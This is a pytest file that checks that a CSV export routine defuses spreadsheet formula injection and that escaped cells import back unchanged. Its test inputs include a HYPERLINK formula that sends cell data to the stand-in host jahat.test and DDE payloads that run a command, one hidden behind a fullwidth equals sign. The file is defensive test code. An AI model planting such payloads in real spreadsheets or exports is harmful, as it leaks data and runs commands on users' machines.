"""Tables as CSV: no text becomes a formula, whatever the program that opens them takes for the end of a cell."""

import csv
import io

import pytest

from opd.tables import text

RUNS = ('=HYPERLINK("http://jahat.test/"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "\uff1dcmd|' /C calc'!A0")


@pytest.mark.parametrize("formula", RUNS)
@pytest.mark.parametrize(
    "before", ["", " ", "Laporan;", "Laporan, ", "Laporan\n", "Laporan|", "Laporan\t", 'Laporan;"']
)
@pytest.mark.parametrize("divider", [",", ";", "\t", "|"])
def test_no_text_becomes_a_formula(formula, before, divider):
    written = b"".join(text.csv([["judul", before + formula]], delimiter=";")).decode()
    cells = [cell for row in csv.reader(io.StringIO(written), delimiter=divider) for cell in row]
    pieces = [piece.strip(' "') for cell in cells for piece in cell.splitlines()]
    assert not [piece for piece in pieces if piece[:1] in tuple("=+@\uff1d")]


@pytest.mark.parametrize("words", ["Rp5.000,- per lembar", "a; -5", "huruf a - c (lihat lampiran)", "0812; 5=5"])
def test_other_texts_stay_as_they_are(words):
    assert text.safe(words) == words


@pytest.mark.parametrize("words", ["=1", "'=1", "-", "\uff0b62", "Laporan", "'kutipan'"])
def test_a_cell_that_is_imported_again_is_what_it_was(words):
    assert text.unsafe(text.safe(words)) == words
